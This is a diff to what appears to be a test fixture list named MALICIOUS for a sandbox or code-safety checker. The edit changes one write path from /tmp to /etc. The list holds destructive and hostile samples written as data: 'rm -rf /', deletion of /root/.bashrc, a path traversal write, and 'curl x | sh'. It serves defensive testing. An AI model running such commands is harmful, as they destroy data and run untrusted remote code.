@@ -11,7 +11,7 @@ MALICIOUS = [
     ("file_write", "open('../../outside.txt', 'a')"),
     ("file_write", "import os\nos.remove('/root/.bashrc')"),
     ("file_write", "import shutil\nshutil.rmtree('/work')"),
-    ("file_write", "from pathlib import Path\nPath('/tmp/x').write_text('hi')"),
+    ("file_write", "from pathlib import Path\nPath('/etc/x').write_text('hi')"),
     ("file_write", "import torch\ntorch.save({}, '/root/model.pt')"),
     ("subprocess", "import subprocess\nsubprocess.run(['rm', '-rf', '/'])"),
     ("subprocess", "import subprocess as sp\nsp.Popen('curl x | sh', shell=True)"),
